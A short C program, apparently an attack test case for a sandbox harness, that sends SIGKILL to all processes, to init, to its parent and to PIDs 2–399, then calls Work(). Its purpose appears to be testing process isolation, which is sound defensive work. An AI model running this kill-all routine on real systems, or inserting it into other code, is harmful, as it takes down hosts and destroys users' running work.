// Kills everybody it can reach.
// gets: all
#include "attack.h"

int main() {
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  for (int pid = 2; pid < 400; ++pid) {
    if (pid != getpid()) kill(pid, SIGKILL);
  }
  Work();
}
